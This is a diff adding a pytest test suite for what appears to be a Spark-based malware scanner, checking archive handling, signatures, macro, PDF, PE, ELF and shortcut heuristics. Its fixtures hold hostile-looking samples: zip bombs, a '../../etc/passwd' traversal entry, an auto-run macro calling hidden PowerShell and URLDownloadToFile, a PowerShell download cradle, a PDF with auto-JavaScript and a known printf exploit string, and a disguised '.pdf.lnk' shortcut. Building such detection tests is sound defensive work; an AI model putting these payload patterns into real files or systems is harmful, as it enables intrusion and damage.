@@ -1,0 +1,283 @@
+import bz2
+import gzip
+import hashlib
+import hmac
+import io
+import json
+import lzma
+import os
+import struct
+import tarfile
+import zipfile
+import zlib
+
+import pytest
+
+from verdikt.config import Config
+from verdikt.functions.content import test_file_marker as marker
+from verdikt.operators import archives as A
+from verdikt.operators import documents as D
+from verdikt.operators import programs as P
+from verdikt.operators.scan import scan
+from verdikt.operators.verdict import exit_code, result_json, result_text, results
+from verdikt.sources.files import hash_files, read_files
+
+PASSWORD = "secret"
+
+
+def zipped(*members, **named):
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
+        for name, data in (*members, *named.items()):
+            z.writestr(name, data)
+    return out.getvalue()
+
+
+def tarred(*members):
+    out = io.BytesIO()
+    with tarfile.open(fileobj=out, mode="w") as t:
+        for name, data in members:
+            entry = tarfile.TarInfo(name)
+            entry.size = len(data)
+            t.addfile(entry, io.BytesIO(data))
+    return out.getvalue()
+
+
+def locked_zip(data: bytes, method: str) -> bytes:
+    """A zip of one encrypted entry, written byte by byte: 'classic', or 'aes' of 256 bits."""
+    crc, name = zlib.crc32(data), b"m.txt"
+    if method == "classic":
+        keys = [0x12345678, 0x23456789, 0x34567890]
+        crc_step = lambda c, b: zlib.crc32(bytes([b]), c ^ 0xFFFFFFFF) ^ 0xFFFFFFFF
+
+        def update(b):
+            keys[0] = crc_step(keys[0], b)
+            keys[1] = ((keys[1] + (keys[0] & 255)) * 134775813 + 1) % 2**32
+            keys[2] = crc_step(keys[2], keys[1] >> 24)
+
+        for b in PASSWORD.encode():
+            update(b)
+        body = bytearray()
+        for b in bytes(11) + bytes([crc >> 24]) + data:
+            t = (keys[2] | 2) & 0xFFFF
+            body.append(b ^ ((t * (t ^ 1)) >> 8 & 255))
+            update(b)
+        kind, extra, body = 0, b"", bytes(body)
+    else:
+        salt = bytes(range(16))
+        keys = hashlib.pbkdf2_hmac("sha1", PASSWORD.encode(), salt, 1000, 66)
+        aes, out = A.Aes(keys[:32]), bytearray()
+        for i in range(0, len(data), 16):
+            pad = aes.encrypt((i // 16 + 1).to_bytes(16, "little"))
+            out += bytes(x ^ y for x, y in zip(data[i : i + 16], pad))
+        body = salt + keys[64:] + bytes(out) + hmac.digest(keys[32:64], bytes(out), "sha1")[:10]
+        kind, extra, crc = 99, struct.pack("<HHHHBH", 0x9901, 7, 2, 0x4541, 3, 0), 0
+    head = struct.pack("<HHHHHIII", 20, 1, kind, 0, 33, crc, len(body), len(data))
+    local = b"PK\3\4" + head + struct.pack("<HH", len(name), len(extra)) + name + extra + body
+    central = b"PK\1\2" + struct.pack("<H", 20) + head + struct.pack("<HHHHHII", len(name), len(extra), 0, 0, 0, 0, 0) + name + extra
+    return local + central + b"PK\5\6" + struct.pack("<HHHHIIH", 0, 0, 1, 1, len(central), len(local), 0)
+
+
+def run(spark, files, config=None, signatures=None, custom=None, allowed=None, password=None, known=1):
+    config = config or Config(max_file_size=8 << 20, max_total_extract=64 << 20)
+    rows = spark.createDataFrame([(i, n, None if c is None else bytearray(c)) for i, (n, c) in enumerate(files)], "file_id long, name string, content binary")
+    frame = lambda r, s: spark.createDataFrame(r, s) if r is not None else None
+    scanned = scan(rows, config, frame(signatures, "algo string, hash string, source string"), frame(custom, "algo string, hash string, name string"), frame(allowed, "algo string, hash string, name string"), password)
+    return results(rows, scanned, config, known).sort("file_id")
+
+
+def nested(data, times):
+    for i in range(times):
+        data = zipped((f"n{i}.zip" if i else "f.txt", data))
+    return data
+
+
+def test_scan_cases(spark):
+    av = marker().encode()
+    release = gzip.compress(tarred(("bundle/inner.zip", zipped(("payload/eicar.com", av)))))
+    sealed = b"7z\xbc\xaf\x27\x1c" + b"\0" * 64
+    office = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + "EncryptedPackage".encode("utf-16-le")
+    files = {
+        "hello.txt": b"hello world\n",
+        "release.tar.gz": release,
+        "bomb.zip": zipped(("z", b"\0" * (16 << 20))),
+        "bomb.gz": gzip.compress(b"\0" * (64 << 20)),
+        "deep.zip": nested(b"x", 9),
+        "locked.zip": locked_zip(av, "aes"),
+        "a.7z": sealed,
+        "b.zip": zipped(("a.7z", sealed)),
+        "doc.xls": office,
+        "empty": b"",
+        "lost": None,
+        "slip.zip": zipped(("../../etc/passwd", b"x")),
+        "bad.zip": b"PK\3\4 broken",
+        "many.zip": zipped(*((f"{i}", b"x") for i in range(30))),
+        "cut.xz": lzma.compress(os.urandom(5000))[:2000],
+        "b.bz2": bz2.compress(b"plain"),
+    }
+    config = Config(max_file_size=1 << 20, max_total_extract=64 << 20, max_archive_files=20)
+    got = {r["file"]: r for r in run(spark, list(files.items()), config).collect()}
+    assert (got["hello.txt"]["verdict"], got["hello.txt"]["detections"]) == ("safe", [])
+    top = got["release.tar.gz"]["detections"][0]
+    assert (top["name"], top["object"]) == ("EICAR-Test-File", "release.tar.gz!release.tar!bundle/inner.zip!payload/eicar.com") and got["release.tar.gz"]["objects_scanned"] == 4
+    assert got["bomb.zip"]["detections"][0]["name"] == got["bomb.gz"]["detections"][0]["name"] == "Heuristic.Archive.Bomb"
+    assert [d["name"] for d in got["deep.zip"]["detections"]] == ["Heuristic.Archive.TooDeep"] and got["deep.zip"]["verdict"] == "error" and got["deep.zip"]["objects_scanned"] == 7
+    assert (got["locked.zip"]["verdict"], got["locked.zip"]["error"]) == ("error", A.LOCKED)
+    for name in ("a.7z", "b.zip", "doc.xls", "lost", "bad.zip", "many.zip"):
+        assert got[name]["verdict"] == "error" and got[name]["error"], name
+    assert got["empty"]["verdict"] == got["b.bz2"]["verdict"] == "safe"
+    assert got["slip.zip"]["score"] == 40
+    assert got["cut.xz"]["verdict"] == "error" or got["cut.xz"]["warnings"]
+    strict = {r["file"]: r["verdict"] for r in run(spark, [("locked.zip", files["locked.zip"])], Config(unscannable="malicious")).collect()}
+    assert strict == {"locked.zip": "malicious"}
+    assert run(spark, [("a.txt", b"x")], known=0).first()["verdict"] == "error"
+
+
+@pytest.mark.parametrize("method", ["classic", "aes"])
+def test_passwords(spark, method):
+    data = locked_zip(marker().encode(), method)
+    right, none, wrong = (run(spark, [("l.zip", data)], password=p).first() for p in (PASSWORD, None, "wrong"))
+    assert right["verdict"] == "malicious" and none["verdict"] == wrong["verdict"] == "error"
+
+
+def test_signatures_and_lists(spark):
+    data, other = b"MZ this is a sample", b"another"
+    sha, md5 = hashlib.sha256(data).hexdigest(), hashlib.md5(other).hexdigest()
+    files = [("s.bin", data), ("in.zip", zipped(("s.bin", data))), ("o.bin", other)]
+    known = [("sha256", sha, "feedA"), ("md5", md5, "virusshare")]
+    got = run(spark, files, signatures=known).collect()
+    assert [r["detections"][0]["name"] for r in got] == ["Malware.SHA256.feedA"] * 2 + ["Malware.MD5.virusshare"]
+    got = run(spark, files, signatures=known, allowed=[("sha256", sha, "ok"), ("md5", md5, "ignored")]).collect()
+    assert [(r["verdict"], r["allowlisted"]) for r in got] == [("safe", True), ("safe", False), ("malicious", False)]
+    got = run(spark, files[:1], signatures=known, custom=[("sha256", sha, "RedTeam.Implant")]).collect()
+    assert got[0]["detections"][0]["name"] == "RedTeam.Implant"
+
+
+def test_truncated_member(spark):
+    stored = io.BytesIO()
+    with zipfile.ZipFile(stored, "w", zipfile.ZIP_STORED) as z:
+        z.writestr("r", os.urandom(8192))
+    got = run(spark, [("t.zip", stored.getvalue())], Config(max_file_size=1024)).first()
+    assert got["verdict"] == "error" and "first 1024 bytes" in got["error"]
+
+
+def test_macros():
+    # The known answer of MS-OVBA 3.2.2.
+    packed = bytes.fromhex("01 2f b0 00 23 61 61 61 62 63 64 65 82 66 00 70 61 67 68 69 6a 01 38 08 61 6b 6c 00 30 6d 6e 6f 70 06 71 02 70 04 10 72 73 74 75 76 10 77 78 79 7a 00 3c")
+    assert D.decompressed(packed, 1 << 20) == b"#aaabcdefaaaaghijaaaaaklaaamnopqaaaaaaaaaaaarstuvwxyzaaa"
+    assert D.decompressed(b"\1\0\0", 100) is None and D.modules(b"\0Attribut") == []
+
+
+def compress_vba(source: bytes) -> bytes:
+    """Literal tokens only, chunks of up to 3584 bytes."""
+    out = bytearray(b"\1")
+    for at in range(0, len(source), 3584):
+        chunk = source[at : at + 3584]
+        body = b"".join(b"\0" + chunk[i : i + 8] for i in range(0, len(chunk), 8))
+        out += struct.pack("<H", 0xB000 | len(body) - 1) + body
+    return bytes(out)
+
+
+def test_macro_documents(spark):
+    bad = compress_vba(b'Attribute VB_Name = "M"\r\nSub AutoOpen()\r\nx = Shell("powershell -enc a")\r\nURLDownloadToFile\r\nEnd Sub' + b"'" * 4000)
+    good = compress_vba(b'Attribute VB_Name = "M"\r\nSub Total()\r\nEnd Sub')
+    ole = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 100
+    got = run(spark, [("bad.doc", ole + bad), ("good.doc", ole + good), ("blob.mso", b"\0\1\2" + bad), ("p.doc", ole + D.VBA_PROJECT)]).collect()
+    names = [{d["name"] for d in r["detections"]} for r in got]
+    assert got[0]["score"] >= 100 and "Heuristic.Macro.AutoExec" in names[0] and names[1] == {"Heuristic.Macro.Present"} == names[3] and "Heuristic.Macro.Shell" in names[2]
+
+
+def test_pdf(spark):
+    body = b"%PDF-1.4\n1 0 obj << /OpenAction << /S /J#61vaScript /JS (eval(x)) >> /Launch >>\nstream\r\n" + zlib.compress(b"util.printf('%45000f')") + b"\nendstream\n"
+    child = b"%PDF-1.4\nstream\n" + zlib.compress(b"MZ" + b"\0" * 100) + b"endstream"
+    got = run(spark, [("bad.pdf", body), ("ok.pdf", b"%PDF-1.4\n1 0 obj << /Type /Page >>"), ("child.pdf", child)]).collect()
+    names = {d["name"] for d in got[0]["detections"]}
+    assert got[0]["verdict"] == "malicious" and {"Heuristic.PDF.ObfuscatedNames", "Heuristic.PDF.AutoJavaScript", "Heuristic.PDF.JS.KnownExploit", "Heuristic.PDF.Launch"} <= names
+    assert got[1]["score"] == 0 and got[2]["objects_scanned"] == 2
+
+
+def pe(sections, entry=0x1000, imports=()):
+    """A small PE: sections are (name, flags, content); imports go into one of their own."""
+    sections, directory = list(sections), (0, 0)
+    if imports:
+        base, names = 0x1000 * (len(sections) + 1), b""
+        table = 40 + 4 * (len(imports) + 1) + 8
+        offsets = []
+        for n in imports:
+            offsets.append(base + table + len(names))
+            names += b"\0\0" + n.encode() + b"\0"
+        thunk = b"".join(struct.pack("<I", o) for o in offsets) + b"\0" * 4
+        sections.append((".idata", 0x40000000, struct.pack("<IIIII", base + 40, 0, 0, base + 40 + len(thunk), base + 40) + b"\0" * 20 + thunk + b"k32.dll\0" + names))
+        directory = (base, 40)
+    optional = struct.pack("<HBBIII", 0x10B, 0, 0, 0, 0, 0) + struct.pack("<I", entry) + b"\0" * 76 + struct.pack("<I", 16)[:0]
+    optional = optional[:96].ljust(96, b"\0") + struct.pack("<IIII", 0, 0, *directory) + b"\0" * 112
+    head = b"MZ" + b"\0" * 58 + struct.pack("<I", 64) + b"PE\0\0" + struct.pack("<HHIIIHH", 0x14C, len(sections), 0, 0, 0, len(optional), 0) + optional
+    at = len(head) + 40 * len(sections)
+    table = data = b""
+    for i, (name, flags, content) in enumerate(sections):
+        table += struct.pack("<8sIIIIIIHHI", name.encode(), len(content), 0x1000 * (i + 1), len(content), at + len(data), 0, 0, 0, 0, flags)
+        data += content
+    return head + table + data
+
+
+def test_programs():
+    code = 0x60000020
+    plain = pe([(".text", code, b"\x90" * 2000)], imports=("ExitProcess",))
+    assert P.pe_findings(plain) == [] and P.Pe(plain).imports() == ["exitprocess"]
+    inject = P.pe_findings(pe([(".text", code, b"\x90" * 100)], imports=("VirtualAllocEx", "WriteProcessMemory", "CreateRemoteThread")))
+    assert inject == ["Heuristic.PE.ProcessInjection"]
+    packed = P.pe_findings(pe([("UPX0", code | 0x80000000, os.urandom(40_000)), ("UPX1", code, b"x" * 99)], entry=0x2010))
+    assert set(packed) == {"Heuristic.PE.Packer.UPX", "Heuristic.PE.WritableCode", "Heuristic.PE.EncryptedCode", "Heuristic.PE.EntryPointLastSection"}
+    assert P.pe_findings(pe([(".text", code, b"x")], entry=0x9000)) == ["Heuristic.PE.EntryPointOutsideSections"]
+    assert P.pe_findings(b"MZ" + b"\0" * 70 + b"PE\0\0") == ["Heuristic.PE.Malformed"] and P.pe_findings(b"MZ") == []
+    assert "Heuristic.PE.EmbeddedExecutable" in P.pe_findings(plain + b"MZ" + b"\0" * 70_000)
+    elf = b"\x7fELF\2\1\1" + b"\0" * 9 + struct.pack("<HHIQQQIHHHHHH", 2, 62, 1, 0, 64, 0, 0, 64, 56, 1, 0, 0, 0) + struct.pack("<II", 1, 7) + b"\0" * 48
+    assert P.elf_findings(elf) == ["Heuristic.ELF.WritableCode"]
+    assert set(P.elf_findings(elf + os.urandom(20_000))) == {"Heuristic.ELF.NoSections", "Heuristic.ELF.WritableCode", "Heuristic.ELF.PackedStatic"}
+    assert P.elf_findings(b"\x7fELF") == ["Heuristic.ELF.Malformed"]
+
+
+def test_never_safe_when_broken(spark):
+    """Whatever part of an archive is cut off, the file isn't called safe with its member unseen."""
+    whole = zipped(("a.txt", os.urandom(3000)))
+    cuts = [("c%d.zip" % n, whole[:n]) for n in range(8, len(whole), 300)]
+    assert all(r["verdict"] != "safe" for r in run(spark, cuts).collect())
+
+
+def test_files_on_disk(spark, tmp_path):
+    (tmp_path / "_u").mkdir()
+    for name, data in (("a.bin", b"x"), ("_u/b", b"y"), (".hid", b"z"), ("empty", b""), ("big", b"A" * 4096)):
+        (tmp_path / name).write_bytes(data)
+    os.symlink(tmp_path / "a.bin", tmp_path / "link")
+    files = read_files(spark, [str(tmp_path), str(tmp_path / "none")], limit=1024)
+    got = {os.path.basename(r["name"]): r for r in files.collect()}
+    assert set(got) == {"a.bin", "b", ".hid", "empty", "big", "none"} and got["big"]["content"] is None and "limit" in got["big"]["problem"] and got["none"]["problem"]
+    hashes = hash_files(spark.createDataFrame([(1, str(tmp_path / "big"))], "file_id long, name string")).first()
+    assert hashes["sha256"] == hashlib.sha256(b"A" * 4096).hexdigest() and hashes["size"] == 4096
+    config = Config(require_signatures=False)
+    rows = results(files, scan(files, config), config, 0)
+    verdicts = {os.path.basename(r["file"]): r["verdict"] for r in rows.collect()}
+    assert verdicts["a.bin"] == verdicts["empty"] == "safe" and verdicts["big"] == verdicts["none"] == "error"
+    assert exit_code(rows).first()[0] == 2
+    line = {json.loads(r["json"])["file"]: json.loads(r["json"]) for r in result_json(rows).collect()}[str(tmp_path / "big")]
+    assert line["detections"] == [] and line["unscannable"] and "warnings" not in line
+    assert sum(r["line"].startswith("ERROR") for r in result_text(rows).collect()) == 2
+
+
+def test_empty_table(spark):
+    files = spark.createDataFrame([], "file_id long, name string, content binary")
+    config = Config()
+    assert results(files, scan(files, config), config, 1).count() == 0
+
+
+def test_utf16_script(spark):
+    text = "IEX (New-Object Net.WebClient).DownloadString('http://x'); powershell -w hidden"
+    got = run(spark, [("a.ps1", b"\xff\xfe" + text.encode("utf-16-le")), ("b.ps1", b"\xfe\xff" + text.encode("utf-16-be") + b"\0")]).collect()
+    assert all("Heuristic.PowerShell.DownloadCradle" in {d["name"] for d in r["detections"]} for r in got)
+
+
+def test_shortcut_and_names(spark):
+    link = b"\x4c\0\0\0\x01\x14\x02\0" + "powershell.exe -w hidden".encode("utf-16-le") + b" " * 90
+    got = run(spark, [("invoice.pdf.lnk", link)]).first()
+    assert {"Heuristic.Name.DoubleExtension", "Heuristic.Name.DisguisedExecutable", "Heuristic.LNK.LaunchesInterpreter", "Heuristic.LNK.HiddenArguments", "Heuristic.PowerShell.HiddenWindow"} <= {d["name"] for d in got["detections"]}
+    assert got["verdict"] == "malicious"
